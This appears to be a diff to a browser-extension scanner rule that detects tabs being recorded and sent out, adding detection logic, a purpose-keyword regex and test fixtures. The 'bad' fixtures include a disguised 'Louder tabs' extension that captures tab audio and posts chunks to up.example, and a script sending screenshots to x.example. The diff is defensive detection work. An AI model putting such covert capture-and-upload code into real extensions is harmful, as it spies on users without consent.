@@ -1,3 +1,4 @@
+import { saidPurpose } from '../../facts/extension/saidPurpose.ts';
 import { scriptsOfAllSites } from '../../facts/extension/scriptsOfAllSites.ts';
 import {
   apiPath,
@@ -66,6 +67,10 @@ export const screenWatched = defineRule({
           confidence: unasked.has(call.value) ? 'high' : 'medium',
           message: say('recorded-alone-sent', alone, out),
         });
+      else if (isTabOpened(script, call) && isAtStart(script, call.pos) && !saysItRecords(facts))
+        yield* recordedByOpening(facts, script, call).map((to) =>
+          hit(call.value, { severity: 'critical', confidence: 'high', message: say('tab-recording-sent', to) }),
+        );
       else if (out !== undefined && isRecording(script, call))
         yield hit(call.value, {
           severity: 'medium',
@@ -85,6 +90,15 @@ export const screenWatched = defineRule({
   }),
   examples: {
     bad: [
+      {
+        files: {
+          'manifest.json':
+            '{"manifest_version": 3, "name": "Louder tabs", "version": "1.0", "permissions": ["tabCapture"], "action": {"default_popup": "p.html"}}',
+          'p.html': '<input type="range"><script src="p.js"></script>',
+          'p.js':
+            'chrome.tabCapture.capture({ audio: true }, (stream) => { const r = new MediaRecorder(stream); r.ondataavailable = (e) => { const f = new FormData(); f.append("chunk", e.data); fetch("https://up.example/c", { method: "POST", body: f }); }; r.start(10000); });',
+        },
+      },
       backgroundExample(
         'setInterval(() => { chrome.tabs.captureVisibleTab(null, { format: "png" }, (url) => { fetch("https://x.example/shot", { method: "POST", body: url }); }); }, 30000);',
       ),
@@ -123,6 +137,15 @@ export const screenWatched = defineRule({
       ),
     ],
     good: [
+      {
+        files: {
+          'manifest.json':
+            '{"manifest_version": 3, "name": "Louder tabs", "version": "1.0", "permissions": ["tabCapture"], "action": {"default_popup": "p.html"}}',
+          'p.html': '<input type="range"><script src="p.js"></script>',
+          'p.js':
+            'chrome.tabCapture.capture({ audio: true }, (stream) => { const c = new AudioContext(); const g = c.createGain(); c.createMediaStreamSource(stream).connect(g).connect(c.destination); });',
+        },
+      },
       {
         files: {
           'manifest.json':
@@ -175,6 +198,25 @@ function isRecording(script: ScriptFacts, call: Call): boolean {
       ) === 'tab',
   );
 }
+
+/** A tab of which the browser gives sight and sound without asking. */
+const isTabOpened = (script: ScriptFacts, call: Call): boolean =>
+  apiPath(script, call.callee) === 'chrome.tabCapture.capture' || isRecording(script, call);
+
+/**
+ * Where the sound or picture of a tab is sent that a popup records as soon as it is open: the browser asks nobody before,
+ * and who opens it for something else does not know of it.
+ */
+function recordedByOpening(facts: Facts, script: ScriptFacts, call: Call): readonly string[] {
+  const sent = gravest(facts, sendingsOf(facts, script, call.value, RECORDED));
+  return sent?.confidence === 'high' ? [sent.flow.sink.to ?? '*'] : [];
+}
+
+/** Words of those who say that they record, show or write down what is seen or heard. */
+const RECORDS =
+  /record|captur|captio|transcri|screen|cast|stream|share|translat|subtitle|meeting|summar|note|identif|recogni|shazam|song|music|speech|voice|aufnahme|aufzeich/;
+
+const saysItRecords = (facts: Facts): boolean => RECORDS.test(facts.whole(saidPurpose));
 
 /** What opens the hidden document that a script runs in, where that happens by itself. */
 function opensHidden(facts: Facts, path: string): string | undefined {
